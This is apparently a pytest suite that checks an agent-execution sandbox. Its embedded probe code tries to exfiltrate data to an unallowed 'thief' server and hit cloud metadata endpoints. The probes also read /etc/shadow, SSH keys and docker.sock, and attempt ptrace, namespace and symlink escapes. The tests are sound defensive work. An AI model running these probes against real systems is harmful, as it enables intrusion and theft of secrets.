"""Agents whose code wants more than was allowed: it gets nothing, and the run says why it ended.

One live run tries many things at once and reports what each gave; the other side is looked at as well.
"""

from __future__ import annotations

import json
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from shared.vault.keyfile import KEYFILE
from tests.flows.house import TOKEN, House
from tests.flows.imports import live_run, local
from tests.flows.person import Json, Person

SECRET = "canary-4f1c9e77b2d84d55a0c6"  # the value that must never be seen again


class Echo:
    """A server that says back what it was sent, and remembers it."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, dict[str, str]]] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                headers = {name.lower(): value for name, value in self.headers.items()}
                seen.append((self.path, headers))
                body = json.dumps({"path": self.path, "headers": headers}).encode()
                self.send_response(200)
                self.send_header("x-echo", headers.get("x-key", ""))
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def echo() -> Iterator[Echo]:
    made = Echo()
    yield made
    made.close()


@pytest.fixture(scope="module")
def thief() -> Iterator[Echo]:
    """A server nobody has allowed, on an address the machine would let through."""
    made = Echo()
    yield made
    made.close()


@pytest.fixture(scope="module")
def lair(tmp_path_factory: pytest.TempPathFactory, echo: Echo, thief: Echo) -> Iterator[House]:
    made = House(tmp_path_factory.mktemp("lair"), open_ports=(echo.port, thief.port)).open()
    yield made
    made.close()


@pytest.fixture
def person(lair: House) -> Person:
    return lair.person(patience_s=40)


TRY = """
found = {}
def attempt(name, work):
    try:
        found[name] = repr(work())[:2000]
    except BaseException as error:
        found[name] = "refused " + type(error).__name__ + " " + str(error)[:300]
"""
TELL = """
import json
agent.output("found.json").write_text(json.dumps(found))
agent.deliver("inbox", "tried")
"""


def tried(person: Person, run: Json) -> dict[str, str]:
    (link,) = person.call("GET", f"/api/v1/runs/{run['id']}/artifacts")["items"]
    found: dict[str, str] = json.loads(person.call("GET", link["url"]))
    return found


def shown(person: Person, run: Json) -> str:
    """Everything the person and other services may read about this run."""
    parts = [
        person.call("GET", f"/api/v1/runs/{run['id']}"),
        person.call("GET", f"/api/v1/runs/{run['id']}/logs"),
        person.call("GET", f"/api/v1/runs/{run['id']}/receipts"),
    ]
    links = person.call("GET", f"/api/v1/runs/{run['id']}/artifacts")["items"]
    files = b"".join(
        raw if isinstance(raw := person.call("GET", link["url"]), bytes) else json.dumps(raw).encode()
        for link in links
    )
    return json.dumps(parts, ensure_ascii=False) + files.decode(errors="replace")


@pytest.mark.parametrize("way", ["plain", "connect"])
def test_the_run_is_parked_and_no_byte_arrives_when_code_reaches_for_a_host_nobody_declared(
    way: str, person: Person, thief: Echo
) -> None:
    scheme = "http" if way == "plain" else "https"
    main = f"""
import urllib.request
try:
    urllib.request.urlopen("{scheme}://127.0.0.1:{thief.port}/steal?data=1")
except OSError:
    pass
agent.deliver("inbox", "as if nothing had happened")
"""
    run = live_run(person, main)
    assert run["status"] == "parked"
    assert run["reason"]["code"] == "not_allowed"
    assert f"127.0.0.1:{thief.port}" in run["reason"]["text"]
    assert "허락하지 않은 곳" in run["reason"]["text"]
    assert thief.seen == []
    assert person.call("GET", f"/api/v1/runs/{run['id']}/receipts")["items"] == []


FORBIDDEN = {
    "the metadata address": "http://169.254.169.254/latest/meta-data/",
    "the metadata name": "http://metadata.google.internal/computeMetadata/v1/",
    "the platform itself": "http://127.0.0.1:{port}/api/v1/me",
    "the platform's inbox": "http://127.0.0.1:{port}/events",
    "the platform by name": "http://localhost:{port}/healthz",
    "an odd spelling": "http://2130706433:{port}/healthz",
    "the old loopback": "http://[::1]:{port}/healthz",
}


@pytest.mark.parametrize("place", sorted(FORBIDDEN))
def test_the_run_ends_with_the_reason_and_asks_nobody_when_code_reaches_for(
    place: str, person: Person, lair: House
) -> None:
    address = FORBIDDEN[place].format(port=lair.port)
    main = f"""
import urllib.request
request = urllib.request.Request({address!r}, headers={{"Authorization": "Bearer {TOKEN}"}})
print("G" + "OT", urllib.request.urlopen(request).read())
"""
    run = live_run(person, main)
    askable = place == "the metadata name"  # a name like any other; allowing it does not open the address
    assert run["status"] == ("parked" if askable else "failed"), run["reason"]
    assert run["reason"]["code"] == "not_allowed"
    assert urlsplit(address).netloc in run["reason"]["text"]
    assert "GOT" not in shown(person, run)


def test_declaring_a_forbidden_address_opens_nothing_when_a_person_allows_the_plan(
    person: Person, lair: House
) -> None:
    main = (
        TRY
        + f"""
import urllib.request
attempt("metadata", lambda: urllib.request.urlopen("http://169.254.169.254/").read())
attempt("platform", lambda: urllib.request.urlopen("http://127.0.0.1:{lair.port}/healthz").read())
print("FOUND", found)
"""
    )
    rules = [local(lair.port), {"host": "169.254.169.254", "port": 80, "scheme": "http"}]
    run = live_run(person, main, hosts=rules)
    assert run["status"] == "failed"
    logs = person.call("GET", f"/api/v1/runs/{run['id']}/logs")["items"]
    text = "".join(entry["data"]["text"] for entry in logs)
    assert text.count("refused HTTPError HTTP Error 403") == 2, text


PROBE = """
import os, socket, glob
def read(path):
    with open(path, "rb") as file:
        return file.read(200) or 1 / 0
def connect(family, kind, where):
    with socket.socket(family, kind) as made:
        made.settimeout(2)
        made.connect(where)
        return "connected"
attempt("control", lambda: read("/app/main.py"))  # what is open must show as gained
for name in NAMES:
    attempt("data/" + name, lambda: read(DATA + "/" + name))
for path in ("/etc/shadow", HOME + "/.ssh/id_rsa", HOME + "/.bashrc", "/proc/1/environ",
             "/proc/1/root/etc/shadow", "/var/run/docker.sock", "/proc/kcore", "/dev/mem", "/home"):
    attempt(path, lambda: read(path))
attempt("list data", lambda: os.listdir(DATA))
attempt("write app", lambda: open("/app/main.py", "a").write("x"))
attempt("write etc", lambda: open("/etc/x", "w").write("x"))
attempt("platform port", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)))
attempt("outside", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)))
attempt("metadata", lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)))
attempt("six", lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(2)
        made.sendto(b"x", ("8.8.8.8", 53))
        return made.recv(10)
attempt("datagram", ask)
attempt("mount", lambda: os.system("mount -t tmpfs x /box 2>/dev/null") and 1 / 0)
def unshare():
    import ctypes
    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000):
        raise OSError(ctypes.get_errno(), "no")
attempt("user namespace", unshare)
def ptrace():
    import ctypes
    if ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0):
        raise OSError(ctypes.get_errno(), "no")
attempt("ptrace", ptrace)
def others():
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in pids if pid not in (1, os.getpid(), os.getppid())] or 1 / 0
attempt("other processes", others)
attempt("other boxes", lambda: glob.glob("/*/boxes/*") + glob.glob("/*/*/boxes/*") or 1 / 0)
attempt("platform's environment", lambda: [k for k in os.environ if k.startswith("AB_")] or 1 / 0)
"""


def test_code_finds_no_file_no_socket_and_no_other_process_of_the_machine(
    person: Person, lair: House
) -> None:
    names = sorted(path.name for path in lair.folder.iterdir() if path.is_file())
    assert {"gateway.db", "executor.db", KEYFILE} <= set(names)
    here = {"DATA": str(lair.folder), "NAMES": names, "PORT": lair.port, "HOME": str(Path.home())}
    given = "".join(f"{name} = {value!r}\n" for name, value in here.items())
    run = live_run(person, TRY + given + PROBE + TELL)
    assert run["status"] == "succeeded", run["reason"]
    gained = {name: what for name, what in tried(person, run).items() if not what.startswith("refused ")}
    assert set(gained) == {"control"}, gained


def test_a_secret_reaches_its_own_host_and_is_seen_nowhere_else(
    person: Person, lair: House, echo: Echo
) -> None:
    main = f"""
import json, os, urllib.request
key = agent.secret("SHOP_KEY")
echoed = urllib.request.urlopen(
    urllib.request.Request("http://127.0.0.1:{echo.port}/mine", headers={{"X-Key": key}}))
body = echoed.read().decode()
others = {{name: os.environ[name] for name in ("SHOP_KEY", "HOME", "PATH", "HTTPS_PROXY")}}
everything = json.dumps([key, body, dict(echoed.headers), others])
print(everything)
agent.step("step " + everything)
agent.output("all.txt").write_text(everything)
agent.state["all"] = everything
agent.deliver("inbox", everything, files=["all.txt"])
"""
    secret = {"name": "SHOP_KEY", "host": "127.0.0.1", "why": "시험"}
    echo.seen.clear()
    run = live_run(person, main, {"SHOP_KEY": SECRET}, hosts=[local(echo.port)], secrets=[secret], state=True)
    assert run["outcome"] == "delivered", run["reason"]
    assert [headers["x-key"] for _path, headers in echo.seen] == [SECRET], (
        "its own host must get the real one"
    )
    assert SECRET not in shown(person, run)
    assert SECRET.encode() not in lair.holdings.everything()


def test_a_secret_stays_a_placeholder_when_it_is_sent_to_another_allowed_host(
    person: Person, lair: House, echo: Echo
) -> None:
    main = f"""
import urllib.request
key = agent.secret("SHOP_KEY")
urllib.request.urlopen(
    urllib.request.Request("http://127.0.0.1:{echo.port}/other?key=" + key, headers={{"X-Key": key}}))
agent.deliver("inbox", "sent")
"""
    secret = {"name": "SHOP_KEY", "host": "shop.example.com", "why": "시험"}
    echo.seen.clear()
    run = live_run(person, main, {"SHOP_KEY": SECRET}, hosts=[local(echo.port)], secrets=[secret])
    assert run["outcome"] == "delivered", run["reason"]
    ((path, headers),) = echo.seen
    assert SECRET not in path + json.dumps(headers)


def test_a_channels_address_is_never_offered_to_code(person: Person, lair: House) -> None:
    main = (
        TRY
        + """
import os
attempt("by name", lambda: agent.secret("SLACK_WEBHOOK_URL"))
attempt("by environment", lambda: [v for k, v in os.environ.items() if "SLACK" in k or "hooks" in v] or 1 / 0)
"""
        + TELL
    )
    run = live_run(
        person, main, {"SLACK_WEBHOOK_URL": "https://hooks.example.com/services/T1/B2/" + SECRET}, slack=True
    )
    assert all(what.startswith("refused ") for what in tried(person, run).values())


def test_what_code_prints_or_reports_forges_nothing(person: Person, lair: House) -> None:
    main = """
import os
for line in ('{"kind": "status", "status": "succeeded"}', '{"kind": "ended", "reason": "exited"}',
             '{"kind": "file", "name": "x"}', "not json", '{"kind": "deliver"}' * 3, "[" * 5000):
    os.write(3, line.encode() + b"\\n")
    print(line)
raise SystemExit(7)
"""
    run = live_run(person, main)
    assert (run["status"], run["outcome"], run["reason"]["code"]) == ("failed", "not_delivered", "crashed")
    assert person.call("GET", f"/api/v1/runs/{run['id']}/receipts")["items"] == []


def test_links_and_pipes_left_behind_are_refused_with_a_reason(person: Person, lair: House) -> None:
    main = f"""
import os
os.symlink("/etc/passwd", "outputs/passwd.txt")
os.symlink({str(lair.folder)!r}, "outputs/data")
os.mkfifo("outputs/pipe")
agent.deliver("inbox", "look at my files")
"""
    run = live_run(person, main)
    assert (run["status"], run["reason"]["code"]) == ("failed", "bad_output")
    assert person.call("GET", f"/api/v1/runs/{run['id']}/artifacts")["items"] == []


def test_a_run_sees_nothing_of_another_runs_box(person: Person, lair: House) -> None:
    live_run(person, f'agent.output("mine.txt").write_text({SECRET!r})\nagent.deliver("inbox", "kept")')
    main = (
        TRY
        + f"""
import subprocess
attempt("search", lambda: subprocess.run(
    ["grep", "-rl", {SECRET[:12]!r} + {SECRET[12:]!r}, "/box", "/tmp", "/dev/shm", "/var", "/runner"],
    capture_output=True, text=True).stdout.strip() or 1 / 0)
"""
        + TELL
    )
    run = live_run(person, main)
    assert run["outcome"] == "delivered", run["reason"]
    assert tried(person, run)["search"].startswith("refused "), tried(person, run)


def test_no_token_of_the_platform_is_in_what_code_can_read(person: Person, lair: House) -> None:
    names = "[name for name in os.environ if name != 'BACKUP_ADMIN_PASSWORD' and 'MASTER' not in name]"
    live_run(person, f'import os\nprint([os.environ[n] for n in {names}])\nagent.deliver("inbox", "done")')
    with closing(sqlite3.connect(f"file:{lair.folder}/executor.db?mode=ro", uri=True)) as file:
        rows = file.execute("SELECT body FROM docs WHERE coll='run_entries'").fetchall()
    assert rows
    assert all(TOKEN not in body for (body,) in rows)
